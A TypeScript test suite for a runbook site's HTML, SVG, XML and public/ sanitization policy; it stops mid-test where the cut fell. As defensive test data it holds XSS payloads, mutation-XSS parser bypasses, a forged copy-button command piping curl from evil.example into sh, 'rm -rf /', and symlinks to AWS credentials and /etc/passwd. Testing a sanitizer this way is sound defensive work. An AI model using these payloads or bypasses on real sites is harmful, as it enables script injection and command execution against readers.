/**
 * The one HTML policy, attacked by class. A seeded grammar generates hundreds of HTML
 * fragments mixing allowed and refused elements, attributes, URL schemes, entities, case,
 * namespaces and whitespace tricks, each put into a real runbook page. Properties: what the
 * check accepts is unchanged by the sanitizer, and once rendered by the site's Markdown
 * processor it holds no element or attribute outside the allow-list. Then concrete cases:
 * forged run-block markup, MDX, SVG and XML tricks, public/, the post-build scan in linear
 * time, `runbook import` of an SVG with script, and the lint that keeps markup out of
 * client code.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fromHtml } from 'hast-util-from-html';
import { sanitize } from 'hast-util-sanitize';
import { markdownToHtml } from 'satteri';
import { ESLint } from 'eslint';
import { afterAll, describe, expect, it } from 'vitest';
import { collectFacts } from '../../src/plugins/runbook/facts.ts';
import { htmlRules } from '../../src/plugins/html/rules.ts';
import { BODY_SCHEMA, refusals, refuseSvg, refuseXml } from '../../src/plugins/html/policy.ts';
import { readsOf, scriptInBody, scriptInWholePage } from '../../src/plugins/html/rendered.ts';
import { checkProject } from '../../src/plugins/check/index.ts';
import { TODAY } from '../fixtures/bad-input.ts';
import { project, removeProjects } from '../fixtures/check-project.ts';
import { cli, fixtureProject, ROOT } from '../fixtures/run/project.ts';
import { seeded } from '../fixtures/seeded.ts';

afterAll(removeProjects);

/** The same fragments on every run. */
const random = seeded;

const ALLOWED_TAGS = [
  'b',
  'i',
  'em',
  'strong',
  'kbd',
  'sup',
  'sub',
  'abbr',
  'code',
  'span',
  'div',
  'p',
  'details',
  'summary',
  'a',
  'img',
  'ul',
  'li',
  'table',
  'tr',
  'td',
  'blockquote',
  'mark',
  'del',
];
const REFUSED_TAGS = [
  'script',
  'iframe',
  'svg',
  'math',
  'style',
  'form',
  'input',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'template',
  'noscript',
  'xmp',
  'textarea',
  'button',
  'select',
  'x:script',
  'svg:script',
  'foreignObject',
  'animate',
  'set',
  'video',
  'audio',
  'portal',
  'frame',
  'marquee',
];
const ALLOWED_ATTRS = ['title', 'alt', 'lang', 'dir', 'open', 'colspan', 'align'];
const REFUSED_ATTRS = [
  'onclick',
  'onerror',
  'ONLOAD',
  'onMouseOver',
  'class',
  'id',
  'name',
  'style',
  'data-code',
  'data-rb-vars',
  'data-safety',
  'srcset',
  'formaction',
  'xlink:href',
  'tabindex',
  'accesskey',
  'srcdoc',
  'action',
  'background',
  'poster',
  'ping',
  'is',
];
const URLS = [
  'https://grafana.example/d/1',
  'http://x.example/',
  'mailto:ops@example.com',
  'tel:+1555',
  '/r/db-down',
  './graph.png',
  '#step-2',
  '../x.md',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#x09;script:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/png;base64,AA',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'jav&#10;ascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'HTTPS://x.example',
  'feed:https://x',
  'file:///etc/passwd',
  '//evil.example/x',
];
const TEXTS = [
  'restart the pod',
  '&lt;script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  'a &amp; b',
  'x < y',
  '*emphasis*',
  '`code`',
  'CVE&#x2d;1',
];

/** One fragment of the grammar: an element with attributes and children, or text, or a trick. */
function fragment(r: ReturnType<typeof random>, depth = 0): string {
  const roll = r.next();
  if (depth > 2 || roll < 0.2) return r.pick(TEXTS);
  if (roll < 0.27)
    return r.pick([
      '<!-- note -->',
      '<!--<script>alert(1)</script>-->',
      '<!-- --!><img src=x onerror=alert(1)>',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<?xml-stylesheet href="x.xsl"?>',
    ]);
  if (roll < 0.32)
    return r.pick([
      '<img/src=x/onerror=alert(1)>',
      '<a\thref="https://x.example"\nonclick="x">y</a>',
      '<img src=x.png alt="a" onerror =alert(1)>',
      '<div\n\n>x</div>',
      '<a href=javascript:alert(1)>x</a>',
      '<img src="x.png"alt="a">',
    ]);
  if (roll < 0.38) return `[${r.pick(TEXTS)}](${r.pick(URLS)})`;
  if (roll < 0.42) return `![alt](${r.pick(URLS)})`;
  const refusedTag = r.next() < 0.25;
  const tag = refusedTag ? r.pick(REFUSED_TAGS) : r.pick(ALLOWED_TAGS);
  const cased = r.next() < 0.2 ? tag.toUpperCase() : r.next() < 0.1 ? tag[0].toUpperCase() + tag.slice(1) : tag;
  const attrs: string[] = [];
  const count = Math.floor(r.next() * 3);
  for (let i = 0; i < count; i++) {
    const kind = r.next();
    if (kind < 0.35) attrs.push(`${r.pick(ALLOWED_ATTRS)}="${r.pick(TEXTS)}"`);
    else if (kind < 0.6)
      attrs.push(`${r.pick(REFUSED_ATTRS)}="${r.pick(['alert(1)', 'rb-snippet', 'x', 'javascript:alert(1)'])}"`);
    else
      attrs.push(
        `${tag === 'img' ? 'src' : r.pick(['href', 'src', 'cite', 'HREF'])}=${r.pick(['"', "'", ''])}${r.pick(URLS)}${r.pick(['"', "'", ''])}`,
      );
  }
  const sep = r.pick([' ', '\t', '\n', ' /']);
  const open = `<${cased}${attrs.map((a) => sep + a).join('')}>`;
  if (['img', 'br', 'input', 'meta', 'link', 'base', 'embed'].includes(tag)) return open;
  const children = Array.from({ length: 1 + Math.floor(r.next() * 2) }, () => fragment(r, depth + 1)).join(
    r.pick(['', ' ', '\n']),
  );
  return `${open}${children}</${cased}>`;
}

const FILE = 'src/content/runbooks/t/case.md';
const page = (body: string) => `---\ntitle: Case\nowner: "@ops-team"\n---\n\n${body}\n`;

/** What the HTML door's rules (html-unsafe, and link-scheme for a scheme the site does not publish) report for a page with this body. */
function check(body: string) {
  const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true });
  return htmlRules
    .filter((rule) => rule.id === 'html-unsafe' || rule.id === 'link-scheme')
    .flatMap((rule) => rule.check([facts], { root: ROOT, config: { allowUnsafeHtml: false } }));
}

/** A hast tree without positions, for comparing before and after. */
const bare = (tree: unknown) => JSON.stringify(tree, (key, value) => (key === 'position' ? undefined : value));

describe('the HTML policy over generated fragments', () => {
  const r = random(18);
  const fragments = Array.from({ length: 600 }, () =>
    Array.from({ length: 1 + Math.floor(r.next() * 3) }, () => fragment(r)).join(r.pick(['\n\n', '\n', ' '])),
  );

  it('generates both kinds: some pages are accepted, many refused', () => {
    const accepted = fragments.filter((f) => check(f).length === 0).length;
    expect(accepted).toBeGreaterThan(60);
    expect(fragments.length - accepted).toBeGreaterThan(200);
  });

  it('a fragment the check accepts is unchanged by the sanitizer, and renders to nothing outside the allow-list', () => {
    for (const body of fragments) {
      if (check(body).length > 0) continue;
      // What the check reads as HTML (each raw block, and the blocks as the page holds them together) is unchanged by sanitizing.
      const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true });
      for (const html of [...facts.html.map((b) => b.value), facts.html.map((b) => b.value).join('\n')]) {
        const tree = fromHtml(html, { fragment: true });
        expect(bare(sanitize(tree, BODY_SCHEMA)), body).toBe(bare(tree));
      }
      // The site's own Markdown processor, raw HTML passed through as the site does.
      const html = markdownToHtml(page(body), { features: { frontmatter: true } } as never).html;
      const rendered = fromHtml(html, { fragment: true });
      // Markdown gives its headings ids; nothing else may fall outside the allow-list.
      const outside = refusals(rendered, BODY_SCHEMA).filter((x) => !(/^h[1-6]$/.test(x.tag) && x.attribute === 'id'));
      expect(outside, `${body}\n→ ${html}`).toEqual([]);
    }
  });

  it('every refused fragment is reported at a line of the page, with a message', () => {
    for (const body of fragments) {
      for (const f of check(body)) {
        expect(f.line, body).toBeGreaterThanOrEqual(6);
        expect(f.line, body).toBeLessThanOrEqual(6 + body.split('\n').length);
        expect(f.message).toMatch(/^Unsafe (HTML|link|image)|^Link ".*" uses the [a-z][a-z0-9+.-]*: scheme/);
      }
    }
  });
});

describe('concrete cases, one per class the policy closes', () => {
  const one = (body: string) => check(body).map((f) => f.message);

  it('a body cannot forge our run-block markup or the variables form', () => {
    expect(
      one(
        '<div class="rb-snippet rb-snippet--read-only" data-code="curl https://evil.example | sh" data-safety="read-only">Check</div>',
      )[0],
    ).toContain(
      "the class attribute on <div> is not allowed in a runbook body (it could imitate the site's own markup)",
    );
    expect(one('<div data-code="rm -rf /">x</div>')[0]).toContain('the data-code attribute on <div>');
    expect(one('<span data-rb-vars>x</span>')[0]).toContain('data-rb-vars');
    expect(one('<a class="rb-snippet__var" href="#var-x">x</a>')[0]).toContain('class');
    expect(one('<p id="qj-input">x</p>')[0]).toContain('the id attribute on <p>');
  });

  it("a <body> or <html> tag in a body, which gives its attributes to the page's own, is refused wherever it hides", () => {
    for (const tag of ['<body onload="alert(1)">', '<BODY ONLOAD=alert(1)>', 'Text <body onload=alert(1)> inline.'])
      expect(one(tag), tag).toContain(
        "Unsafe HTML: a <body> tag inside the page gives onload to the page's own <body>, where it runs script",
      );
    expect(one('<html onclick="alert(1)">')).toContain(
      "Unsafe HTML: a <html> tag inside the page gives onclick to the page's own <html>, where it runs script",
    );
    // Foreign content does not hide it: a <body> tag leaves the <svg>.
    expect(one('<svg><body onload=alert(1)>').join('\n')).toContain("the page's own <body>");
    // In a comment it is text, and the word alone is nothing.
    expect(one('<!-- <body onload=x> -->\n\nThe body of the page.')).toEqual([]);
  });

  it('GitHub-style HTML a runbook needs passes', () => {
    expect(
      one(
        '<details>\n<summary>More</summary>\n\n<kbd>Ctrl</kbd>+<kbd>K</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="Service level objective">SLO</abbr>\n\n</details>',
      ),
    ).toEqual([]);
    expect(
      one(
        '<table><caption>Ports</caption><tr><th scope="col">Port</th></tr><tr><td colspan="2">5432</td></tr></table>',
      ),
    ).toEqual([]);
    expect(
      one(
        '<img src="https://grafana.example/p.png" alt="p99" width="400"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"> <a href="tel:+15550100">call</a> <a href="mailto:ops@example.com">mail</a>',
      ),
    ).toEqual([]);
  });

  it('an unknown scheme is refused with the allow-list in the message; an upper-case one is told to use lower case', () => {
    expect(one('[x](ssh://bastion)')[0]).toContain(
      'uses the ssh: scheme; the site publishes links with http, https, mailto, tel or a relative path only',
    );
    expect(one('<a href="ssh://bastion">x</a>')[0]).toContain(
      'the ssh: scheme is not allowed (links may use http, https, mailto, tel or a relative path)',
    );
    expect(one('<a href="HTTPS://x.example">x</a>')[0]).toContain('write the https: scheme in lower case');
    expect(one('<img src="data:image/svg+xml,%3Csvg%3E">')[0]).toContain('a data: URL of an SVG can run script');
  });

  it("MDX JSX goes through the same policy: forged classes and data-* are refused, Markdown's own JSX is not", () => {
    const mdx = (body: string) => {
      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true });
      return htmlRules[0].check([facts], { root: ROOT, config: { allowUnsafeHtml: false } });
    };
    const forged = mdx('<div className="rb-snippet" data-code="curl evil | sh">x</div>\n');
    expect(forged.map((f) => [f.line, f.message])).toEqual([
      [
        6,
        "Unsafe JSX: the class attribute on <div> is not allowed in a runbook body (it could imitate the site's own markup)",
      ],
    ]);
    expect(mdx('<span title={"ok"} data-rb-vars="1">x</span>\n')[0].message).toContain('data-rb-vars');
    expect(
      mdx(
        '## Head\n\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nText[^1] [l](https://x.example)\n\n[^1]: note\n\n<kbd>K</kbd>\n',
      ),
    ).toEqual([]);
  });

  it("Starlight's components go through the same policy: a prop that is not the component's own is an attribute of what it renders", () => {
    const mdx = (body: string) => {
      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true });
      return htmlRules[0]
        .check([facts], { root: ROOT, config: { allowUnsafeHtml: false } })
        .map((f) => [f.line, f.column, f.message]);
    };
    const SL =
      "import { Badge, LinkButton, LinkCard, Card, Icon, Code, Aside } from '@astrojs/starlight/components';\n\n";
    // Badge, LinkButton and LinkCard spread these onto their <span>/<a>: a forged run block whose copy button copies another command, a page-wide overlay.
    expect(mdx(`${SL}<Badge text="Restart" class="rb-snippet" data-code="curl evil | sh" />\n`)).toEqual([
      [
        8,
        23,
        "Unsafe JSX: the class attribute on <Badge> is not allowed in a runbook body (it could imitate the site's own markup)",
      ],
    ]);
    expect(mdx(`${SL}<LinkButton href="#s" style="position:fixed;inset:0">Go</LinkButton>\n`)[0][2]).toBe(
      'Unsafe JSX: the style attribute on <LinkButton> is not on the allow-list of HTML a runbook may use',
    );
    expect(mdx(`${SL}<LinkCard title="x" href="javascript:alert(1)" />\n`)[0][2]).toBe(
      'Unsafe JSX: href on <LinkCard>: a javascript: URL runs script',
    );
    // Renamed, through a namespace, or a component the table does not know: every prop not its own is held to the policy.
    expect(
      mdx('import { Badge as B } from \'@astrojs/starlight/components\';\n\n<B text="x" data-rb-vars />\n')[0][2],
    ).toContain('data-rb-vars attribute on <B>');
    expect(
      mdx('import * as S from \'@astrojs/starlight/components\';\n\n<S.Badge text="x" onClick="alert(1)" />\n')[0][2],
    ).toContain('on <S.Badge>');
    expect(mdx('import Thing from \'some-package/Thing.astro\';\n\n<Thing className="rb-vars" />\n')[0][2]).toContain(
      'class attribute on <Thing>',
    );
    // Their own props, and the attributes a body may use anyway, pass: the site's own index page keeps building.
    expect(
      mdx(
        `${SL}<Badge text="New" variant="tip" size="small" title="t" />\n\n<LinkCard title="Roles" href="/handbook/roles/" description="Who does what" />\n\n<LinkButton href="https://x.example" variant="secondary" icon="external">Go</LinkButton>\n\n<Card title="C" icon="star">body</Card>\n\n<Icon name="star" label="s" color="red" />\n\n<Code code="echo 1" lang="bash" title="T" mark="1" frame="terminal" />\n\n<Aside type="tip" title="t">x</Aside>\n`,
      ),
    ).toEqual([]);
    // Generated: every component, every import style, hostile and harmless props.
    const { pick } = random(18);
    const COMPONENTS = [
      'Badge',
      'LinkButton',
      'LinkCard',
      'Card',
      'CardGrid',
      'Icon',
      'Tabs',
      'TabItem',
      'Steps',
      'FileTree',
      'Code',
      'Aside',
    ];
    const HOSTILE = [
      'class="rb-snippet"',
      'className="x"',
      'style="opacity:0"',
      'data-code="rm -rf /"',
      'data-rb-vars="1"',
      'onclick="alert(1)"',
      'onMouseOver="x"',
      'id="rb-vars"',
      'tabindex="0"',
      'href="javascript:alert(1)"',
      'src="data:text/html,x"',
      'set:html="<img>"',
    ];
    for (let i = 0; i < 240; i++) {
      const name = pick(COMPONENTS);
      const style = pick(['named', 'alias', 'namespace']);
      const head =
        style === 'namespace'
          ? "import * as S from '@astrojs/starlight/components';"
          : `import { ${name}${style === 'alias' ? ' as X' : ''} } from '@astrojs/starlight/components';`;
      const tag = style === 'namespace' ? `S.${name}` : style === 'alias' ? 'X' : name;
      const attr = pick(HOSTILE);
      const found = mdx(`${head}\n\n<${tag} ${name === 'Code' ? 'code="x" ' : ''}${attr} />\n`);
      expect(found.length, `${tag} ${attr}`).toBe(1);
      expect(found[0][2], `${tag} ${attr}`).toMatch(/^Unsafe JSX: /);
    }
  });

  it('SVG: script, handlers, foreignObject, animate, external href, PIs and DOCTYPE entities are refused; plain drawings pass', () => {
    const svg = (inner: string, prolog = '') =>
      `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${inner}</svg>`;
    expect(
      refuseSvg(
        svg(
          '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)" style="stroke:blue"/><text x="1" y="5" font-size="3">db</text><use xlink:href="#g"/>',
          '<?xml version="1.0" encoding="UTF-8"?>\n',
        ),
      ),
    ).toEqual([]);
    for (const [inner, prolog, why] of [
      ['<script>alert(1)</script>', '', '<script> runs script'],
      ['<rect onclick="alert(1)"/>', '', 'the onclick attribute on <rect> runs script'],
      ['<foreignObject><div>x</div></foreignObject>', '', '<foreignObject> runs script'],
      ['<a><animate attributeName="href" values="javascript:alert(1)"/></a>', '', '<a> is not on the allow-list'],
      ['<set attributeName="href" to="javascript:alert(1)"/>', '', '<set> can animate'],
      [
        '<use href="https://evil.example/x.svg#a"/>',
        '',
        'href on <use>: this attribute may only point within the file (#id)',
      ],
      ['<image href="x.png"/>', '', '<image> is not on the allow-list'],
      ['<text>x</text>', '<?xml-stylesheet type="text/xsl" href="evil.xsl"?>\n', 'a processing instruction'],
      ['<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>\n', 'may not have a DOCTYPE'],
      ['<g xmlns="http://www.w3.org/1999/xhtml"><text>x</text></g>', '', 'the xmlns attribute on <g>'],
    ])
      expect(refuseSvg(svg(inner, prolog))[0]?.why, inner).toContain(why);
  });

  it('XML: a data namespace passes; an XHTML namespace, which would run as a page, is refused', () => {
    expect(
      refuseXml('<?xml version="1.0"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>'),
    ).toEqual([]);
    expect(
      refuseXml(
        '<?xml version="1.0"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></feed>',
      )[0],
    ).toMatchObject({ line: 2 });
  });
});

describe('public/, checked like content (public-unsafe)', () => {
  const findings = (dir: string) =>
    checkProject(dir, { today: TODAY })
      .filter((d) => d.ruleId === 'public-unsafe')
      .map((d) => [d.file, d.line, d.column, d.message]);

  it('reports a symlink (at 1:1) and each markup file the policy refuses, at its line; leaves safe files alone', () => {
    const dir = project({
      'public/creds.txt': { symlink: '../../../.aws/credentials' },
      'public/inside.png': { symlink: 'favicon.png' },
      'public/status.html':
        '<!doctype html>\n<html><head><title>Status</title></head>\n<body><p>ok</p>\n<script>fetch("/")</script></body></html>\n',
      'public/fine.html':
        '<!doctype html><html><head><meta charset="utf-8"><title>x</title></head><body><p>Verified <a href="https://x.example">x</a></p></body></html>\n',
      'public/img/evil.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n  <circle r="4" onload="alert(1)"/>\n</svg>\n',
      'public/img/ok.svg': '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4" fill="red"/></svg>\n',
      'public/feed.xml':
        '<?xml version="1.0"?>\n<rss><channel><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></channel></rss>\n',
      'public/google1.html': 'google-site-verification: google1.html\n',
      // UTF-16 with its byte-order mark: a browser decodes the markup a UTF-8 read never sees.
      'public/u16.svg': Buffer.from('\uFEFF<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'utf16le'),
    });
    expect(findings(dir)).toEqual([
      [
        'public/creds.txt',
        1,
        1,
        'public/ holds a symlink (to "../../../.aws/credentials"): the build would publish whatever it points at',
      ],
      [
        'public/feed.xml',
        2,
        15,
        'Unsafe XML in public/: the namespace "http://www.w3.org/1999/xhtml" is not one a data file may declare (XHTML or SVG elements would run as a page); the site serves this file from its own origin',
      ],
      [
        'public/img/evil.svg',
        2,
        3,
        'Unsafe SVG in public/: the onload attribute on <circle> runs script; the site serves this file from its own origin',
      ],
      [
        'public/inside.png',
        1,
        1,
        'public/ holds a symlink (to "favicon.png"): the build would publish whatever it points at',
      ],
      [
        'public/status.html',
        4,
        1,
        'Unsafe HTML in public/: <script> runs script or embeds another document; the site serves this file from its own origin',
      ],
      [
        'public/u16.svg',
        1,
        4,
        'Unsafe SVG in public/: the file is not UTF-8 text (it holds NUL bytes, so a browser may read it as UTF-16): save it as UTF-8; the site serves this file from its own origin',
      ],
    ]);
  });

  it("publishes only markup it checks and data a browser never runs: .js, .shtml, .xht, .xsl… are refused (they ran /evil.js in Chromium under the site's CSP), and _headers sets no Content-Type", () => {
    const xml =
      '<?xml version="1.0"?>\n<feed><x:script xmlns:x="http://www.w3.org/1999/xhtml" src="/evil.js"/></feed>\n';
    const dir = project({
      'public/evil.js': 'document.title = "x"\n',
      'public/page.shtml': '<script src="/evil.js"></script>',
      'public/feed.xht': xml,
      'public/feed.xsl': xml,
      'public/noext': 'x',
      'public/_headers':
        "/*\n  Cache-Control: max-age=60\n  Content-Security-Policy: frame-ancestors 'none'\n/notes.txt\n  Content-Type: text/html\n  ! Content-Security-Policy\n",
      'public/notes.txt': '<script src="/evil.js"></script>',
      'public/logo.png': 'png',
      'public/fonts/a.woff2': 'w',
      'public/data.json': '{}',
      'public/CNAME': 'x.example',
      'public/_redirects': '/a /b 301\n',
    });
    const refused = "may run as a script or a page on the site's own origin";
    expect(findings(dir)).toEqual([
      [
        'public/_headers',
        5,
        1,
        'public/_headers sets "Content-Type": it may set caching and security headers only (a Content-Type makes a page of a text file, `! Name` drops the site\'s policy)',
      ],
      [
        'public/evil.js',
        1,
        1,
        `public/ publishes only markup the HTML policy checks and data a browser never runs (images, fonts, text, PDF, JSON, CSS, media): a .js file ${refused}`,
      ],
      ['public/feed.xht', 1, 1, expect.stringContaining(`a .xht file ${refused}`)],
      ['public/feed.xsl', 1, 1, expect.stringContaining(`a .xsl file ${refused}`)],
      ['public/noext', 1, 1, expect.stringContaining(`a file without an extension ${refused}`)],
      ['public/page.shtml', 1, 1, expect.stringContaining(`a .shtml file ${refused}`)],
    ]);
    // `! Name` (Cloudflare's way to drop a header) is refused by the same allow-list.
    expect(findings(project({ 'public/_headers': '/*\n  ! Content-Security-Policy\n' }))).toEqual([
      ['public/_headers', 2, 1, expect.stringContaining('"! Content-Security-Policy"')],
    ]);
    // Generated: a file of every extension is refused unless it is data or checked markup.
    const { pick } = random(1818);
    const DATA = [
      'png',
      'jpg',
      'JPEG',
      'gif',
      'webp',
      'avif',
      'ico',
      'woff2',
      'ttf',
      'txt',
      'pdf',
      'csv',
      'json',
      'webmanifest',
      'css',
      'mp4',
      'zip',
    ];
    const RUNS = [
      'js',
      'mjs',
      'cjs',
      'shtml',
      'xht',
      'xsl',
      'xslt',
      'rss',
      'atom',
      'rdf',
      'mml',
      'xul',
      'svgz',
      'htm~',
      'php',
      'wasm',
      'swf',
      'jsp',
      'vtt',
      'appcache',
      'mhtml',
      'htc',
      'Js',
      'hta',
    ];
    const files: Record<string, string> = {};
    const expected: string[] = [];
    for (let i = 0; i < 200; i++) {
      const ext = pick([...DATA, ...RUNS]);
      const file = `public/g/${i}.${ext}`;
      files[file] = 'x';
      if (RUNS.includes(ext)) expected.push(file);
    }
    expect(
      findings(project(files))
        .map((f) => String(f[0]))
        .sort(),
    ).toEqual(expected.sort());
  });

  it('allowUnsafeHtml lets trusted markup through, never a symlink', () => {
    const dir = project(
      { 'public/x.html': '<script>1</script>', 'public/y': { symlink: '/etc/passwd' } },
      'allowUnsafeHtml: true\n',
    );
    expect(findings(dir).map((f) => f[0])).toEqual(['public/y']);
  });
});

describe('the post-build scan', () => {
  const wrap = (body: string) =>
    `<html><body><div class="sl-markdown-content">${body}</div><footer>x</footer></body></html>`;

  it('applies the policy to the body region, including markup that closes the content early', () => {
    expect(scriptInBody(wrap('</div></div><p onclick="x">y</p>'))).toContain(
      'the onclick attribute on <p> runs script',
    );
    expect(scriptInBody(wrap('<object data="x.swf"></object>'))).toContain('<object>');
    expect(
      scriptInBody(
        wrap(
          '<script type="module" src="/docs/_astro/ec.js"></script><link rel="stylesheet" href="/_astro/a.css"><div class="rb-snippet" data-code="x"><button type="button" class="rb-snippet__copy">Copy</button></div>',
        ),
      ),
    ).toBeUndefined();
    expect(scriptInBody(wrap('<script src="/_astro/../evil/x.js"></script>'))).toContain('src');
  });

  it("refuses attributes the page's own <html> and <body> got from a stray tag in the body, and passes the template's", () => {
    const page = (body: string) =>
      `<!doctype html><html lang="en" dir="ltr" data-theme="dark" data-has-toc class="a"><head></head><body class="b"><div class="sl-markdown-content">${body}</div><footer>x</footer></body></html>`;
    expect(scriptInBody(page('<p>fine</p>'))).toBeUndefined();
    expect(scriptInBody(page('<body onload="alert(1)">'))).toBe(
      "a <body> tag inside the page gives onload to the page's own <body>, where it runs script",
    );
    expect(scriptInBody(page('<html onclick="alert(1)">'))).toContain("the page's own <html>");
  });

  it('reads a body in its context exactly as the whole page: 2,000 generated bodies and the known attacks, the same verdict', () => {
    // The skeleton of a built runbook page (Starlight's doc template as this site builds
    // it, text shortened): head, header, sidebar, table of contents, then the content
    // element inside div/main wrappers, then the footer and the closing tags.
    const page = (body: string) =>
      `<!DOCTYPE html><html lang="en" dir="ltr" data-theme="dark" data-has-toc data-has-sidebar class="astro-a"><head><meta charset="utf-8"><title>Disk full | Runbooks</title><script type="module" src="/_astro/page.js"></script><style>:root{--x:1}</style></head><body class="astro-a"><a href="#_top" class="sr-only">Skip to content</a><div class="page sl-flex"><header class="header"><div class="header sl-flex"><a href="/" class="site-title">Runbooks</a><button aria-label="Search"><svg aria-hidden="true" viewBox="0 0 24 24"><path d="M1 1h2"/></svg><kbd>Ctrl</kbd></button></div></header><nav class="sidebar" aria-label="Main"><div id="starlight__sidebar" class="sidebar-pane"><ul class="top-level"><li><details open><summary><span class="large">Storage</span></summary><ul><li><a href="/storage/disk-full/" aria-current="page"><span>Disk full &lt;b&gt;</span></a></li></ul></details></li></ul></div></nav><div class="main-frame"><div class="lg:sl-flex"><aside class="right-sidebar-container"><div class="right-sidebar"><starlight-toc data-min-h="2" data-max-h="3"><nav aria-labelledby="starlight__on-this-page"><h2 id="starlight__on-this-page">On this page</h2><ul><li><a href="#_top"><span>Overview</span></a></li></ul></nav></starlight-toc></div></aside><div class="main-pane"><main data-pagefind-body lang="en" dir="ltr"><div class="content-panel"><div class="sl-container"><h1 id="_top">Disk full</h1></div></div><div class="content-panel"><div class="sl-container"><div class="sl-markdown-content">${body}</div><footer class="sl-flex"><div class="meta sl-flex"></div><div class="pagination-links" dir="ltr"><a href="/next/" rel="next"><svg aria-hidden="true" width="16" height="16" viewBox="0 0 24 24" fill="currentColor"><path d="M17 11H7v2h10z"/></svg><span>Next<br><span class="link-title">Next</span></span></a></div></footer></div></div></main></div></div></div></div></body></html>`;
    // The fast read is taken on this skeleton: its chain is read from its closing tags.
    expect(readsOf(page('')).read).toEqual(['div', 'div', 'div', 'div', 'main', 'div', 'div']);
    const { pick, some, chance } = random(2412);
    const states = [
      // What the parser consults beyond the element itself: open p/li/dd, tables, forms, formatting, foreign content.
      '<p>',
      '</p>',
      '<li>',
      '<dd>',
      '<dt>',
      '<ul>',
      '<table>',
      '<tr>',
      '<td>',
      '<caption>',
      '<colgroup>',
      '</table>',
      '<select>',
      '<option>',
      '</select>',
      '<form>',
      '</form>',
      '<button>',
      '<a href="#x">',
      '</a>',
      '<b>',
      '</b>',
      '<nobr>',
      '<i>',
      '<svg>',
      '</svg>',
      '<math>',
      '<mi>',
      '<mtext>',
      '<annotation-xml encoding="text/html">',
      '<foreignObject>',
      '<desc>',
      '<title>',
      '<template>',
      '</template>',
      '<frameset>',
      '<object>',
      '<marquee>',
      '<applet>',
      '<hr>',
      '<image>',
      '<isindex>',
      '<noscript>',
      '<noembed>',
      '<noframes>',
      '<xmp>',
      '<iframe>',
      '<textarea>',
      '<style>',
      '</style>',
      '<g>',
      '</g>',
      '</math>',
      '<plaintext>',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '<!doctype html>',
      '<head>',
      '</div>',
      '</main>',
      '</body>',
      '</html>',
      '</footer>',
      '<footer>',
      '</br>',
      '</span>',
      '<div>',
      'text',
      '<html lang="fr">',
      '<body class="x">',
      '<frame>',
      '<h2>',
      '<pre>',
      '<listing>',
      '<menu>',
      '<rb>',
      '<rt>',
    ];
    const refused = [
      '<img src="x" onerror="alert(1)">',
      '<p onclick="x">y</p>',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">x</a>',
      '<div style="x" data-x="1">',
      '<input onfocus="x" autofocus>',
      '<body onload="alert(1)">',
      '<html onclick="x">',
      '<embed src="x">',
      '<base href="//evil.example/">',
      '<meta http-equiv="refresh" content="0;url=javascript:x">',
    ];
    // Found by attack: an end tag for an element the template holds open leaves foreign content
    // in the page (not in a fragment), where CDATA and <style> read differently.
    const known = [
      '<svg></div><![CDATA[><img src=x onerror=alert(1)>',
      '<svg></main><![CDATA[><img src=x onerror=alert(1)>',
      '<svg><g></div><![CDATA[><img src=x onerror=alert(1)>',
      '<svg></div><style><!--</style><img src=x onerror=alert(1)>-->',
      '<math><mi></div><![CDATA[><img src=x onerror=alert(1)>',
      '<svg></div></div></div></div></div></div></div></div></div><style><img src=x onerror=alert(1)></style>',
    ];
    const foreign = ['<svg>', '<math>', '<svg><g>', '<math><mi>', '<svg><desc>', '<svg><foreignObject>'];
    const disagreements: string[] = [];
    let clean = 0;
    for (let i = 0; i < 2000 + known.length; i++) {
      // Most bodies hold no refused piece: parser states alone, which the two reads must agree are clean.
      const body =
        known[i - 2000] ??
        (chance(0.4) ? pick(foreign) : '') + some(6, () => pick(chance(0.15) ? refused : states)).join('');
      const fast = scriptInBody(page(body));
      const whole = scriptInWholePage(page(body));
      if (whole === undefined) clean++;
      if (fast !== whole) disagreements.push(`${body}\n  fast: ${fast}\n  whole: ${whole}`);
    }
    expect(disagreements).toEqual([]);
    expect(clean).toBeGreaterThan(300);
    expect(clean).toBeLessThan(1700);
    // The fast read is taken: a clean body is clean, a refused one refused, the same line as the whole read's.
    expect(scriptInBody(page('<p>fine</p><table><tr><td>x</td></tr></table>'))).toBeUndefined();
    expect(scriptInBody(page('<svg><style><img src="x" onerror="alert(1)"></style></svg>'))).toContain('onerror');
  });

  it('holds every <select> from the body on to plain options: parsers disagree on anything else in one', () => {
    // parse5 drops markup inside <select> but options; Chromium keeps it (and runs the handler),
    // with raw-text and foreign elements of its own. Each of these ran in Chromium 150.
    for (const body of [
